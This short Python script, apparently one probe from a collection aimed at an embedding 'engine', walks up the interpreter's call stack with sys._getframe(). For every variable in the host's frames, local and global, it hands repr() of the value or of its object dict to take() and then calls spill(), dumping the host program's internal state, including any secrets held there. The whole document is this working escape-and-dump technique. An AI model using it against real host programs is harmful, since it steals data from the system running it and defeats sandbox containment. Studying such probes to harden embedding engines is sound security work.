"""Climbs to the engine's own frames and objects in its process, and takes all that is there."""

GROUP = "the engine"
import sys

frame = sys._getframe()
while frame is not None:
    for scope in (frame.f_locals, frame.f_globals):
        for name, value in list(scope.items()):
            if name not in ("KNOWN", "LOOT"):
                try:
                    take(repr(vars(value)) if hasattr(value, "__dict__") else repr(value))
                except BaseException:
                    pass
    frame = frame.f_back
spill()
